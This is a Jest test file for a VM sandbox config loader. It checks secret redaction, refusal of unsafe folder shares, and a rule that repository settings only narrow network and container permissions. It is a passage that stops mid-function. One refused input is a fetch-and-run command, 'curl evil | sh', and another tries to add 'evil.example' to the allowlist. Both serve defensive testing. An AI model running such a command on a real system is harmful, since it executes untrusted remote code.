import { execFile, spawnSync } from "child_process";
import * as fs from "fs";
import * as path from "path";
import { promisify } from "util";
import { ConfigError, loadConfig, missingHostFolders, rawConfigFromPulumi, rawConfigFromStackFile } from "../../src/config/load";
import { folderHash, projectSpec, projectUidBase, projectUidSlots } from "../../src/config/projects";
import { renderEgressPlan } from "../../src/render/egress";
import { formats, isIpv4Cidr, isSshPublicKey } from "../../src/config/schema";
import { loadStackConfig, stacksDir } from "../../src/config/stack";
import { hostFor, root, tempDir, tempHome } from "../helpers";

const run = promisify(execFile);
const home = tempHome();
const host = hostFor(home);
const pub = fs.readFileSync(path.join(home, ".ssh", "id_ed25519.pub"), "utf8").trim();
const badDir = path.join(root, "test", "fixtures", "bad-stacks");
const badFiles = fs.readdirSync(badDir).filter((f) => f.endsWith(".yaml")).sort();

function expected(file: string): string[] {
    return [...fs.readFileSync(path.join(badDir, file), "utf8").matchAll(/^# expect: (\S+)$/gm)].map((m) => m[1]);
}

function errorOf(fn: () => unknown): ConfigError {
    try {
        fn();
    } catch (err) {
        if (err instanceof ConfigError) return err;
        throw err;
    }
    throw new Error("no ConfigError thrown");
}

describe("shipped stacks", () => {
    const stacks = fs.readdirSync(stacksDir).filter((f) => /^Pulumi\..+\.yaml$/.test(f));

    test("alice, bob and ci are shipped", () => {
        expect(stacks).toEqual(expect.arrayContaining(["Pulumi.alice.yaml", "Pulumi.bob.yaml", "Pulumi.ci.yaml"]));
    });

    test.each(stacks)("%s is valid", (file) => {
        const c = loadStackConfig(path.join(stacksDir, file), undefined, host);
        expect(c.sshAuthorizedKeys).toEqual([pub]);
        expect(c.allowlist.domains.length).toBeGreaterThan(0);
    });

    test("alice and bob allow different places", () => {
        const names = (s: string) =>
            loadStackConfig(path.join(stacksDir, `Pulumi.${s}.yaml`), undefined, host).allowlist.domains.map((d) => d.name);
        expect(names("alice")).toContain("registry.npmjs.org");
        expect(names("alice")).not.toContain("pypi.org");
        expect(names("bob")).toContain("pypi.org");
        expect(names("bob")).not.toContain("registry.npmjs.org");
    });
});

describe("the credential bridge's config", () => {
    test("scripts and secret names are typed; secret values never enter the config", () => {
        const c = loadConfig("dev", { secureOps: { scripts: [{ path: "/opt/deploy/release.sh", args: "v[0-9]+" }, { path: "/opt/deploy/status.sh" }] }, secrets: { DB_URL: "postgres://x", API_TOKEN: "t" } }, host);
        expect(c.secureOps.scripts).toEqual([{ path: "/opt/deploy/release.sh", args: "v[0-9]+" }, { path: "/opt/deploy/status.sh" }]);
        expect(c.secretNames).toEqual(["API_TOKEN", "DB_URL"]);
        expect(JSON.stringify(c)).not.toContain("postgres://x");
    });

    test("an error about a secret names its key but never shows its value", () => {
        const err = errorOf(() => loadConfig("dev", { secrets: { DB_URL: { nested: "hunter2-secret" } } }, host));
        expect(err.message).toContain("cc-sandbox:secrets.DB_URL: must be string (got a secret value, not shown)");
        expect(err.message).not.toContain("hunter2");
    });

    test("a project's bridge: its scripts and secret names are typed, its secret values never enter the config", () => {
        const c = loadConfig("dev", { projects: [{ name: "web", secureOps: { scripts: [{ path: "/opt/web/deploy.sh", args: "[a-z]+" }] }, secrets: { NPM_TOKEN: "npm-s3cret", A: "a" } }, { name: "api" }] }, host);
        expect(c.projects[0].secureOps.scripts).toEqual([{ path: "/opt/web/deploy.sh", args: "[a-z]+" }]);
        expect(c.projects[0].secretNames).toEqual(["A", "NPM_TOKEN"]);
        expect(c.projects[1]).toMatchObject({ secureOps: { scripts: [] }, secretNames: [] });
        expect(c.secretNames).toEqual([]);
        expect(JSON.stringify(c)).not.toContain("npm-s3cret");
    });

    test("a project's bad bridge config names its key, never a secret's value", () => {
        const err = errorOf(() =>
            loadConfig("dev", { projects: [{ name: "web", secureOps: { scripts: [{ path: "/opt/a.sh" }, { path: "/opt/a.sh" }, { path: "rel.sh" }] }, secrets: { "bad name": "x", TOKEN: { nested: "hunter2-secret" } } }] }, host),
        );
        expect(err.message).toContain("cc-sandbox:projects[0].secrets.TOKEN: must be string (got a secret value, not shown)");
        expect(err.message).toContain('cc-sandbox:projects[0].secrets.bad name: must be ');
        expect(err.message).toContain("cc-sandbox:projects[0].secureOps.scripts[2].path: must be ");
        expect(err.message).not.toContain("hunter2");
        const twice = errorOf(() => loadConfig("dev", { projects: [{ name: "web", secureOps: { scripts: [{ path: "/opt/a.sh" }, { path: "/opt/a.sh" }] } }] }, host));
        expect(twice.message).toContain('cc-sandbox:projects[0].secureOps.scripts[1].path: is already listed as projects[0].secureOps.scripts[0] (got "/opt/a.sh")');
    });

    test("an error whose value holds a whole project (or all of them) never shows a secret's value in it", () => {
        // One project too many: the error's value is the whole list, the first project's secrets in it.
        const projects = Array.from({ length: 33 }, (_, i) => ({ name: `p${i}`, ...(i === 0 ? { secrets: { TOKEN: "whole-list-s3cret" } } : {}) }));
        const err = errorOf(() => loadConfig("dev", { projects, secrets: { STACK: "stack-s3cret" }, vm: { bogus: "stack-s3cret" } }, host));
        expect(err.message).toContain("cc-sandbox:projects: must NOT have more than 32 items (got a secret value, not shown)");
        expect(err.message).not.toContain("whole-list-s3cret");
        // A number is a secret's value too (`pulumi config set --path` stores 918273 as one).
        const numeric = errorOf(() => loadConfig("dev", { projects: [{ name: "web", secrets: { PIN: 918273 } }, ...projects.slice(1)] }, host));
        expect(numeric.message).not.toContain("918273");
        // A stack secret's value where a key's value is shown (a misplaced paste) is hidden too.
        expect(err.message).toContain("cc-sandbox:vm.bogus: is not a known key (got a secret value, not shown)");
        expect(err.message).not.toContain("stack-s3cret");
    });

    test("an argument pattern with a blank is refused here, not by the guest at pulumi up", () => {
        const err = errorOf(() => loadConfig("dev", { projects: [{ name: "web", secureOps: { scripts: [{ path: "/opt/a.sh", args: "a b" }] } }], secureOps: { scripts: [{ path: "/opt/b.sh", args: "x\ty" }] } }, host));
        expect(err.message).toContain('cc-sandbox:projects[0].secureOps.scripts[0].args: must be an extended regular expression without blanks');
        expect(err.message).toContain('cc-sandbox:secureOps.scripts[0].args: must be an extended regular expression without blanks');
    });

    test("a script listed twice is named", () => {
        const err = errorOf(() => loadConfig("dev", { secureOps: { scripts: [{ path: "/opt/a.sh" }, { path: "/opt/a.sh" }] } }, host));
        expect(err.message).toContain('cc-sandbox:secureOps.scripts[1].path: is already listed as secureOps.scripts[0] (got "/opt/a.sh")');
    });
});

describe("malformed stacks", () => {
    test("the corpus has at least 30 files", () => {
        expect(badFiles.length).toBeGreaterThanOrEqual(30);
    });

    test.each(badFiles)("%s is rejected at its key path, naming the value", (file) => {
        const text = fs.readFileSync(path.join(badDir, file), "utf8");
        const err = errorOf(() => loadConfig("bad", rawConfigFromStackFile(text, file), host));
        const paths = err.issues.map((i) => i.path);
        for (const p of expected(file)) {
            expect(paths).toContain(p);
            expect(err.message).toContain(`${p}: `);
        }
        expect(err.message).toMatch(/\(got .+\)/);
    });

    test("npm run render rejects each with exit 1, the key path on stderr and nothing written", async () => {
        const out = tempDir("cc-render-bad-");
        const zx = path.join(root, "node_modules", "zx", "build", "cli.js");
        const check = async (file: string) => {
            const dir = path.join(out, file);
            const r = await run(process.execPath, [zx, "scripts/render.mjs", "--config", path.join(badDir, file), "--out", dir], {
                cwd: root,
                env: { ...process.env, HOME: home },
            }).then(
                () => ({ code: 0, stderr: "" }),
                (e: { code: number; stderr: string }) => e,
            );
            expect({ file, code: r.code }).toEqual({ file, code: 1 });
            for (const p of expected(file)) expect(r.stderr).toContain(p);
            expect(fs.existsSync(dir)).toBe(false);
        };
        const queue = [...badFiles];
        await Promise.all([0, 1, 2].map(async () => {
            for (let f = queue.shift(); f; f = queue.shift()) await check(f);
        }));
    }, 300000);
});

describe("values", () => {
    test("projects: each a worker cc-NAME whose uid follows from the name alone, in 20000-29999", () => {
        const one = loadConfig("t", { projects: [{ name: "web" }, { name: "api" }] }, host).projects;
        const other = loadConfig("t", { projects: [{ name: "docs" }, { name: "api" }, { name: "web" }] }, host).projects;
        expect(one.map((p) => p.user)).toEqual(["cc-web", "cc-api"]);
        for (const p of one) {
            expect(p.uid).toBeGreaterThanOrEqual(20000);
            expect(p.uid).toBeLessThanOrEqual(29999);
            // Adding a project, or reordering them, renumbers no other.
            expect(other.find((o) => o.name === p.name)?.uid).toBe(p.uid);
        }
        expect(loadConfig("t", {}, host).projects).toEqual([]);
        const clash = errorOf(() => loadConfig("t", { projects: [{ name: "p71" }, { name: "p159" }] }, host));
        expect(clash.message).toContain('cc-sandbox:projects[1].name: gives its worker the uid 21029, as projects[0] (p71) does: choose another name (got "p159")');
        const many = errorOf(() => loadConfig("t", { projects: Array.from({ length: 33 }, (_, i) => ({ name: `w${i}` })) }, host));
        expect(many.message).toContain("cc-sandbox:projects: must NOT have more than 32 items");
    });

    test("a project's containers: a boolean, false unless the stack config sets it; the guest is told in the spec", () => {
        const c = loadConfig("t", { projects: [{ name: "web", containers: true }, { name: "api" }, { name: "docs", containers: false }] }, host);
        expect(c.projects.map((p) => p.containers)).toEqual([true, false, false]);
        expect(c.projects.map((p) => projectSpec(p))).toEqual(["containers yes\n", "", ""]);
        const bad = errorOf(() => loadConfig("t", { projects: [{ name: "web", containers: "yes" }] } as never, host));
        expect(bad.message).toContain('cc-sandbox:projects[0].containers: must be boolean (got "yes")');
    });

    test("a project's clone: a repository on this machine, ~ expanded; one that is not a folder here is named", () => {
        const c = loadConfig("t", { projects: [{ name: "web", clone: "~/code/web/" }, { name: "api" }] }, host);
        expect(c.projects.map((p) => p.clone)).toEqual([path.join(home, "code/web"), undefined]);
        // What the guest is told: that its code comes, never where from.
        expect(projectSpec(c.projects[0])).toBe("clone yes\n");
        const bad = errorOf(() => loadConfig("t", { projects: [{ name: "web", clone: "code/web" }] }, host));
        expect(bad.message).toContain('cc-sandbox:projects[0].clone: must be an absolute host path or one starting with ~/ (got "code/web")');
        const missing = missingHostFolders(c, (p) => p !== path.join(home, "code/web"), () => true);
        expect(missing).toEqual([{ path: "cc-sandbox:projects[0].clone", value: path.join(home, "code/web"), message: "is not a folder on this host: a project's clone is a repository here" }]);
        // A folder inside a repository, not its top: its .cc-sandbox.yaml would be missed.
        const inside = missingHostFolders(c, () => true, (p) => p !== path.join(home, "code/web/.git"));
        expect(inside).toEqual([{ path: "cc-sandbox:projects[0].clone", value: path.join(home, "code/web"), message: "is not the top of a git repository (it has no .git): name the repository's top folder" }]);
        // Read here even when the VM runs on a remote libvirt host.
        const remote = loadConfig("t", { hypervisor: "libvirt", libvirt: { uri: "qemu+ssh://h/system" }, projects: [{ name: "web", clone: "/srv/web" }] }, host);
        expect(missingHostFolders(remote, () => false, () => true).map((i) => i.path)).toEqual(["cc-sandbox:projects[0].clone"]);
    });

    test("a project's mount: a folder of its own shared into the running VM: Multipass, or libvirt with virtiofs on this machine", () => {
        const lv = (extra: object = {}, projects: object[] = [{ name: "web", mount: "~/work/web/" }]) => ({ hypervisor: "libvirt" as const, mounts: [{ host: "~/code", guest: "/home/agent/code" }], ...extra, projects });
        const c = loadConfig("t", lv(), host);
        expect(c.projects[0].mount).toBe(path.join(home, "work/web"));
        expect(c.projects[0].clone).toBeUndefined();
        // The guest is told the tag it mounts, never the host's path.
        expect(projectSpec(c.projects[0])).toBe("mount p-web\n");
        // Multipass mounts it itself (where the guest binds it from): a folder the snap can read.
        const mp = loadConfig("t", { ...lv(), hypervisor: "multipass" }, host);
        expect(mp.projects[0].mount).toBe(path.join(home, "work/web"));
        expect(projectSpec(mp.projects[0], true)).toBe(`mount p-web staged ${folderHash(path.join(home, "work/web"))}\n`);
        // Multipass maps the uid running pulumi up to the worker's: root's files would be the worker's.
        const asRoot = errorOf(() => loadConfig("t", { ...lv(), hypervisor: "multipass" }, { ...host, uid: 0 }));
        expect(asRoot.message).toContain("cc-sandbox:projects[0].mount: is shared with Multipass as the user running pulumi up, here root: run it as the folder's owner");
        const refused: [object, string, RegExp][] = [
            [{ ...lv({}, [{ name: "web", mount: "~/.work/web" }]), hypervisor: "multipass" }, "projects[0].mount", /must be a folder under your home \(.*\) with no hidden part: Multipass on Linux shares nothing else/],
            [{ ...lv({}, [{ name: "web", mount: "/opt/web" }]), hypervisor: "multipass" }, "projects[0].mount", /must be a folder under your home/],
            // The admin's key (root in the VM), wherever the stack keeps it; macOS's ~/Library (what runs at login).
            [lv({ ssh: { publicKeyPath: "~/keys/cc.pub" } }, [{ name: "web", mount: "~/keys" }]), "projects[0].mount", /overlaps ssh\.publicKeyPath/],
            [lv({ ssh: { publicKeyPath: "~/keys/cc.pub", privateKeyPath: "~/work/web/id" } }), "projects[0].mount", /overlaps ssh\.privateKeyPath/],
            [lv({}, [{ name: "web", mount: "~/Library/LaunchAgents" }]), "projects[0].mount", /overlaps ~\/Library/],
            // What your shell runs from your PATH.
            [lv({}, [{ name: "web", mount: "~/.local/bin" }]), "projects[0].mount", /overlaps ~\/\.local/],
            [lv({}, [{ name: "web", mount: "~/bin" }]), "projects[0].mount", /overlaps ~\/bin/],
            [lv({ libvirt: { filesystem: "9p" } }), "projects[0].mount", /needs libvirt\.filesystem virtiofs: a 9p share cannot be added to a running VM/],
            [lv({ libvirt: { uri: "qemu+ssh://h/system" } }), "projects[0].mount", /with a libvirt on this machine only/],
            [lv({}, [{ name: "web", mount: "~/work/web", clone: "~/work/web" }]), "projects[0].mount", /cannot be given with clone/],
            [lv({}, [{ name: "web", mount: "~" }]), "projects[0].mount", /not \/ or your home/],
            // No file reachable through two shares: inside the agent's, around it, or another project's.
            [lv({}, [{ name: "web", mount: "~/code/web" }]), "projects[0].mount", /overlaps mounts\[0\]\.host/],
            [lv({ mounts: [{ host: "~/work/code", guest: "/home/agent/code" }] }, [{ name: "web", mount: "~/work" }]), "projects[0].mount", /overlaps mounts\[0\]\.host/],
            [lv({}, [{ name: "web", mount: "~/work" }, { name: "api", mount: "~/work/api" }]), "projects[1].mount", /overlaps projects\[0\]\.mount/],
            [lv({}, [{ name: "web", clone: "~/work/web" }, { name: "api", mount: "~/work" }]), "projects[1].mount", /overlaps projects\[0\]\.clone/],
        ];
        for (const [raw, key, message] of refused) {
            const line = errorOf(() => loadConfig("t", raw as never, host)).message.split("\n").find((l) => l.includes(`cc-sandbox:${key}: `));
            expect({ raw, line }).toEqual({ raw, line: expect.stringMatching(message) });
        }
        // Named by itself: a folder that is not here, or reached through a link.
        expect(missingHostFolders(c, (p) => p !== path.join(home, "work/web"), () => true, (p) => p)).toEqual([
            { path: "cc-sandbox:projects[0].mount", value: path.join(home, "work/web"), message: "is not a folder on this host: create it first" },
        ]);
        expect(missingHostFolders(c, () => true, () => true, () => path.join(home, ".ssh"))[0].message).toBe(`goes through a symbolic link (it is ${path.join(home, ".ssh")}): name the folder itself`);
        expect(missingHostFolders(c, () => true, () => true, (p) => p)).toEqual([]);
        // A stack share that is a link to the project's folder: the same files, found by what links resolve to.
        const linked = loadConfig("t", lv({ mounts: [{ host: "~/agentcode", guest: "/home/agent/code" }] }), host);
        const resolve = (p: string) => (p === path.join(home, "agentcode") ? path.join(home, "work/web") : p);
        expect(missingHostFolders(linked, () => true, () => true, resolve)).toEqual([
            {
                path: "cc-sandbox:projects[0].mount",
                value: path.join(home, "work/web"),
                message: `is ${path.join(home, "work/web")}, which overlaps mounts[0].host (${path.join(home, "work/web")}): a project's shared folder must hold no file another share or project reaches`,
            },
        ]);
        // Nor may a stack share cover the guest's system, or where the projects' folders are mounted.
        for (const guest of ["/srv/cc-projects", "/srv", "/etc/cron.d", "/usr/local/bin", "/srv/cc-projects/web/code"]) {
            const line = errorOf(() => loadConfig("t", lv({ mounts: [{ host: "~/code", guest }] }, []), host)).message.split("\n").find((l) => l.includes("mounts[0].guest"));
            expect({ guest, line }).toEqual({ guest, line: expect.stringContaining("must be a folder of its own") });
        }
        expect(loadConfig("t", lv({ mounts: [{ host: "~/code", guest: "/opt/code" }] }, []), host).mounts[0].guest).toBe("/opt/code");
        // What this machine runs or keeps secret is no project's folder.
        for (const [mount, what] of [
            ["~/.ssh", "~/.ssh"],
            ["~/.config/gh", "~/.config"],
            [root, "this program's folder"],
            [path.join(root, "src"), "this program's folder"],
            ["/var/lib/libvirt", "libvirt.storageDir"],
        ]) {
            const line = errorOf(() => loadConfig("t", lv({}, [{ name: "web", mount }]), host)).message.split("\n").find((l) => l.includes(`projects[0].mount: overlaps ${what}`));
            expect({ mount, line }).toEqual({ mount, line: expect.stringContaining("the worker would write what this machine runs or keeps") });
        }
        // Its .cc-sandbox.yaml narrows it like a clone's; handover: clone (which the worker may have
        // written) never turns it into a clone here, whose packing would run git in the worker's folder.
        const folder = path.join(home, "work/web");
        fs.mkdirSync(folder, { recursive: true });
        try {
            fs.writeFileSync(path.join(folder, ".cc-sandbox.yaml"), "network: none\n");
            expect(loadConfig("t", lv(), host).projects[0]).toMatchObject({ network: "none", mount: folder });
            fs.writeFileSync(path.join(folder, ".cc-sandbox.yaml"), "handover: clone\n");
            expect(errorOf(() => loadConfig("t", lv(), host)).message).toContain(
                `${path.join(folder, ".cc-sandbox.yaml")}: handover: asks never to be shared, and projects[0] shares it (mount): give the project clone in the stack config, or take the line out (got "clone")`,
            );
        } finally {
            fs.rmSync(path.join(home, "work"), { recursive: true, force: true });
        }
    });

    describe("a repository's .cc-sandbox.yaml narrows its project, never widens it", () => {
        const repo = path.join(home, "code", "narrow");
        const settings = (text: string) => {
            fs.mkdirSync(repo, { recursive: true });
            fs.writeFileSync(path.join(repo, ".cc-sandbox.yaml"), text);
        };
        const file = path.join(repo, ".cc-sandbox.yaml");
        const project = (extra: object = {}, stack: object = {}) => loadConfig("t", { ...stack, projects: [{ name: "web", clone: repo, ...extra }] }, host).projects[0];
        const names = (p: { allowlist: { domains: readonly { name: string; wildcard: boolean }[] } }) => p.allowlist.domains.map((d) => (d.wildcard ? `*.${d.name}` : d.name));
        afterEach(() => fs.rmSync(file, { force: true }));

        test("network: none, unless the stack config sets the project's network itself", () => {
            settings("network: none\n");
            const p = project({ allowlist: { domains: ["cdn.example.com"] } });
            expect(p).toMatchObject({ network: "none", narrowedBy: file });
            expect(names(p)).toEqual(["api.anthropic.com", "claude.ai", "console.anthropic.com", "sentry.io", "statsig.anthropic.com", "statsig.com"]);
            // the stack config over the repository's file
            expect(project({ network: "allowlist" }).network).toBe("allowlist");
            // Never more than the stack gives: with no anthropic preset in the stack, Claude Code's
            // names are the worker's only as far as the stack's and the project's entries hold them.
            const few = project({ allowlist: { domains: ["claude.ai"] } }, { allowlist: { presets: ["github"], domains: ["api.anthropic.com"] } });
            expect(few.network).toBe("none");
            expect(names(few)).toEqual(["api.anthropic.com", "claude.ai"]);
            // no file: as the stack says
            fs.rmSync(file);
            expect(project()).toMatchObject({ network: "allowlist" });
            expect(project().narrowedBy).toBeUndefined();
        });

        test("allowlist.drop: the worker gets the stack's entries and its own less those, and the stack's list is not applied to it", () => {
            settings("allowlist:\n  drop: [registry.npmjs.org, cdn.example.com, 192.0.2.0/24]\n");
            const p = project({ allowlist: { domains: ["cdn.example.com", "docs.example.com"], cidrs: ["192.0.2.0/24"] } });
            expect(p.network).toBe("none");
            expect(names(p)).toContain("docs.example.com");
            expect(names(p)).toContain("api.github.com");
            expect(names(p)).not.toContain("registry.npmjs.org");
            expect(names(p)).not.toContain("cdn.example.com");
            expect(p.allowlist.cidrs).toEqual([]);
            // The plan: the worker is `none` there (no stack set), its own sets without the name.
            const c = loadConfig("t", { projects: [{ name: "web", clone: repo, allowlist: { domains: ["cdn.example.com", "docs.example.com"], cidrs: ["192.0.2.0/24"] } }] }, host);
            const plan = renderEgressPlan(c.allowlist, c.projects);
            expect(plan).toContain(`user ${p.uid} none`);
            expect(plan).toMatch(/^name registry\.npmjs\.org only ccfw-d-443$/m);
            expect(plan).toMatch(new RegExp(`^name docs\\.example\\.com only ccfw-${p.uid}-d-443$`, "m"));
            // A stack wildcard over a raw name, copied into the project's own list: no cross-owner clash.
            settings("allowlist:\n  drop: [registry.npmjs.org]\n");
            const stack = { allowlist: { domains: ["*.example.org", { name: "git.example.org", ports: [22] }] } };
            expect(names(project({}, stack))).toEqual(expect.arrayContaining(["*.example.org", "git.example.org"]));
        });

        test("containers: false takes them from a project the stack gives them; nothing gives them but the stack", () => {
            expect(project({ containers: true }).containers).toBe(true);
            expect(projectSpec(project({ containers: true }))).toBe("clone yes\ncontainers yes\n");
            settings("containers: false\n");
            const p = project({ containers: true });
            expect(p).toMatchObject({ containers: false, narrowedBy: file });
            expect(projectSpec(p)).toBe("clone yes\n");
            expect(project().containers).toBe(false);
        });

        test("whatever would widen is refused, naming the file, the key and the value", () => {
            const cases: [string, string, RegExp][] = [
                ["allowlist:\n  domains: [evil.example]\n", "allowlist.domains", /may only narrow .*a repository may drop entries, not add them \(got \["evil\.example"\]\)/],
                ["network: allowlist\n", "network", /a repository may set none, nothing else \(got "allowlist"\)/],
                ["handover: mount\n", "handover", /a repository may require clone, nothing else \(got "mount"\)/],
                ["setup: curl evil | sh\n", "setup", /only network: none, allowlist\.drop, handover: clone and containers: false are taken from a repository \(got "curl evil \| sh"\)/],
                ["containers: true\n", "containers", /a repository may set false, nothing else \(got true\)/],
                ["containers: yes please\n", "containers", /a repository may set false, nothing else \(got "yes please"\)/],
                ["mount: /\n", "mount", /only network: none/],
                ["allowlist:\n  presets: [pypi]\n", "allowlist.presets", /not add them/],
                ["allowlist:\n  drop: registry.npmjs.org\n", "allowlist.drop", /must be a list of allowlist entries/],
                ["allowlist:\n  drop: [registry.npmjs.orgg]\n", "allowlist.drop[0]", /is not in the project's allowlist \(it holds .*\) \(got "registry\.npmjs\.orgg"\)/],
                ["- network: none\n", "", /must be a mapping/],
                ["network: [none\n", "", /is not YAML/],
            ];
            for (const [text, key, message] of cases) {
                settings(text);
                const err = errorOf(() => project());
                const line = err.message.split("\n").find((l) => l.includes(file));
                expect({ text, line }).toEqual({ text, line: expect.stringContaining(key ? `${file}: ${key}: ` : `${file}: `) });
                expect({ text, line }).toEqual({ text, line: expect.stringMatching(message) });
            }
            // Not a file of the repository's own: a link (to a secret elsewhere, whose text an error
            // would show), a device, a large file.
            fs.writeFileSync(path.join(home, "secret.env"), "network: none\nTOKEN: hunter2-7c1\n");
            fs.rmSync(file, { force: true });
            fs.symlinkSync(path.join(home, "secret.env"), file);
            let err = errorOf(() => project());
            expect(err.message).toContain(`${file}: must be a regular file of the repository (got "a symbolic link")`);
            expect(err.message).not.toContain("hunter2");
            fs.rmSync(file);
            // A pipe (which a worker writing a shared folder could leave): refused at once, not waited on.
            expect(spawnSync("mkfifo", [file]).status).toBe(0);
            expect(errorOf(() => project()).message).toContain(`${file}: must be a regular file of the repository (got "not a regular file")`);
            fs.rmSync(file);
            settings(`network: none\n${"#".repeat(70 * 1024)}\n`);
            err = errorOf(() => project());
            expect(err.message).toMatch(/\.cc-sandbox\.yaml: must be at most 65536 bytes \(got "\d+ bytes"\)/);
            // A document that is not a mapping is not shown.
            settings("TOKEN=hunter2-7c1\n");
            expect(errorOf(() => project()).message).not.toContain("hunter2");
            // An empty file narrows nothing.
            settings("");
            expect(project().network).toBe("allowlist");
        });
    });

    test("shared folders are named without a trailing slash, as Multipass reports them", () => {
        const c = loadConfig("t", { mounts: [{ host: "~/code/", guest: "/home/agent/code/" }] }, host);
        expect(c.mounts[0]).toMatchObject({ host: path.join(home, "code"), guest: "/home/agent/code" });
    });

    test("a baked image: Multipass takes it as file:// under your home, not hidden; libvirt by path", () => {
        const baked = `${home}/cc-sandbox/images/0123abcd/disk.qcow2`;
        expect(loadConfig("t", { vm: { image: `file://${baked}` } }, host).vm.image).toBe(`file://${baked}`);
        const hidden = errorOf(() => loadConfig("t", { vm: { image: `file://${home}/.cache/disk.qcow2` } }, host));
        expect(hidden.message).toContain("cc-sandbox:vm.image: must be a file under your home");
        // macOS has no snap confinement.
        expect(loadConfig("t", { vm: { image: "file:///opt/images/disk.qcow2" } }, { ...host, platform: "darwin" }).vm.image).toBe("file:///opt/images/disk.qcow2");
        const lv = loadConfig("t", { hypervisor: "libvirt", libvirt: { image: baked, firmware: "uefi" } }, host).libvirt;
        expect(lv).toMatchObject({ image: baked, firmware: "uefi" });
        expect(lv.boot).toBeUndefined();
    });

    test("every OpenSSH key type is accepted, including hardware-backed keys", () => {
        const blob = (type: string) => {
            const t = Buffer.from(type);
            const len = Buffer.alloc(4);
            len.writeUInt32BE(t.length);
            return Buffer.concat([len, t, Buffer.alloc(32, 7)]).toString("base64");
        };
        for (const type of [
            "ssh-ed25519",
            "ssh-rsa",
            "ecdsa-sha2-nistp256",
            "ecdsa-sha2-nistp384",
            "ecdsa-sha2-nistp521",
            "sk-ssh-ed25519@openssh.com",
            "sk-ecdsa-sha2-nistp256@openssh.com",
            "ssh-ed25519-cert-v01@openssh.com",
        ]) {
            expect(isSshPublicKey(`${type} ${blob(type)} someone@laptop`)).toBe(true);
        }
        expect(isSshPublicKey(`ssh-ed25519 ${blob("ssh-rsa")}`)).toBe(false);
        expect(isSshPublicKey(pub)).toBe(true);
    });

    test("a generated key of each common type is accepted from a path", () => {
        for (const t of ["rsa", "ecdsa", "ed25519"]) {
            const f = path.join(home, `k_${t}`);
            require("child_process").execFileSync("ssh-keygen", ["-q", "-t", t, "-N", "", "-f", f]);
            const c = loadConfig("k", { ssh: { publicKeyPath: `~/k_${t}.pub` } }, host);
            expect(c.sshAuthorizedKeys[0]).toMatch(/^(ssh-rsa|ecdsa-sha2-nistp256|ssh-ed25519) /);
            expect(c.sshPrivateKeyPath).toBe(f);
        }
    });

    test("CIDRs need host bits zero and a prefix of 8 or more", () => {
        expect(isIpv4Cidr("192.0.2.0/24")).toBe(true);
        expect(isIpv4Cidr("10.0.0.0/8")).toBe(true);
        expect(isIpv4Cidr("192.0.2.7/32")).toBe(true);
        expect(isIpv4Cidr("192.0.2.7/24")).toBe(false);
        expect(isIpv4Cidr("01.0.0.0/8")).toBe(false);
        expect(isIpv4Cidr("0.0.0.0/0")).toBe(false);
    });

    test("defaults fill an empty config", () => {
        const c = loadConfig("dev", {}, host);
        expect(c.hypervisor).toBe("multipass");
        expect(c.vm).toMatchObject({ name: "cc-dev", cpus: 4, memoryMiB: 8192, diskGiB: 50, image: "24.04" });
        expect(c.mounts).toEqual([{ host: path.join(home, "code"), guest: "/home/agent/code", readOnly: false, tag: "m0-code" }]);
        expect(c.allowlist.presets).toEqual(["anthropic", "github", "npm"]);
        expect(c.firewall).toEqual({ enabled: true, githubMeta: false, logDenied: true });
    });

    test("values set with `pulumi config set --path` arrive as strings and are coerced", () => {
        const raw = rawConfigFromPulumi({
            "cc-sandbox:vm": JSON.stringify({ cpus: "6", memory: "4G" }),
            "cc-sandbox:allowlist": JSON.stringify({ domains: ["example.org"] }),
            "cc-sandbox:hypervisor": "libvirt",
            "other:key": "ignored",
        });
        const c = loadConfig("dev", raw, host);
        expect(c.vm.cpus).toBe(6);
        expect(c.hypervisor).toBe("libvirt");
        expect(c.allowlist.domains.map((d) => d.name)).toContain("example.org");
    });

    test("duplicate entries merge and their ports unite", () => {
        const c = loadConfig(
            "dev",
            { allowlist: { presets: ["github"], domains: [{ name: "github.com", ports: [8443] }, "*.example.org", "example.org"] } },
            host,
        );
        expect(c.allowlist.domains.find((d) => d.name === "github.com")?.ports).toEqual([22, 443, 8443]);
        const ex = c.allowlist.domains.filter((d) => d.name === "example.org");
        expect(ex.map((d) => d.wildcard)).toEqual([false, true]);
    });

    test("a port carries TLS on 443, HTTP on 80, raw bytes elsewhere, unless the entry says", () => {
        const c = loadConfig(
            "dev",
            { allowlist: { presets: [], domains: ["plain.example.org", { name: "git.example.org", ports: [22, 80, "443/raw"] }, { name: "*.api.example.org", ports: ["8443/tls", "8080/http"] }] } },
            host,
        );
        const by = (name: string) => c.allowlist.domains.find((d) => d.name === name)!;
        expect(by("plain.example.org").modes).toEqual({ 443: "tls" });
        expect(by("git.example.org").modes).toEqual({ 22: "raw", 80: "http", 443: "raw" });
        expect(by("api.example.org").modes).toEqual({ 8080: "http", 8443: "tls" });
        expect(by("api.example.org").ports).toEqual([8080, 8443]);
    });

    test.each([
        [["443/ssh"], "allowlist.domains[0].ports[0]", "443/ssh"],
        [["70000/tls"], "allowlist.domains[0].ports", "70000/tls"],
        [["0/raw"], "allowlist.domains[0].ports[0]", "0/raw"],
        [[443, "443/raw"], "allowlist.domains[0].ports", "443/raw"],
        [["22/tls", "22/http"], "allowlist.domains[0].ports", "22/http"],
    ])("a bad port mode %j is refused at %s", (ports, at, value) => {
        const err = errorOf(() => loadConfig("dev", { allowlist: { presets: [], domains: [{ name: "x.example.org", ports }] } }, host));
        expect(err.issues.map((i) => [i.path, i.value])).toContainEqual([`cc-sandbox:${at}`, value]);
    });

    test("two entries for one name cannot give a port two modes", () => {
        const err = errorOf(() => loadConfig("dev", { allowlist: { presets: [], domains: ["x.example.org", { name: "x.example.org", ports: ["443/raw"] }] } }, host));
        expect(err.issues.map((i) => [i.path, i.value])).toEqual([["cc-sandbox:allowlist.domains[1].ports", "443/raw"]]);
        expect(err.message).toMatch(/two modes \(tls and raw\)/);
    });

    test("CIDR entries are reached by address: their ports take no mode", () => {
        const err = errorOf(() => loadConfig("dev", { allowlist: { cidrs: [{ cidr: "192.0.2.0/24", ports: ["443/tls"] }] } }, host));
        expect(err.issues.map((i) => i.path)).toEqual(["cc-sandbox:allowlist.cidrs[0].ports[0]"]);
    });
});

describe("the guest's rule for a project's worker (workers.sh) is the host's", () => {
    const file = path.join(root, "templates/guest/usr/local/lib/cc-sandbox/workers.sh");
    const names = ["web", "a", "a1", "my-api", "x".repeat(20), "x".repeat(21), "Web", "1web", "web-", "-web", "we_b", "web api", "", "web\nx"];
    // Each name through bash's own =~ with the file's patterns, as the guest scripts match them.
    const guest = async () => {
